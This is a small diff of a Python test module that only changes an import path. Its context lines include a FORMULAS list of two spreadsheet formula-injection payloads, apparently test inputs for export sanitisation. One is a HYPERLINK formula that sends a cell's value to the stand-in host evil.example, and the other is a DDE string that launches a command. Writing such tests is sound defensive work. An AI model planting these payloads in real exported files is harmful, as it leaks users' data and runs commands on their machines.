@@ -10,7 +10,7 @@ from sqlalchemy import update
 
 from hub.core import Hub
 from hub.models import Agent
-from tests.hub.test_reports import load_fixture
+from tests.hub.reports.test_reports import load_fixture
 from tests.hub.web.console.conftest import SignedIn
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"]
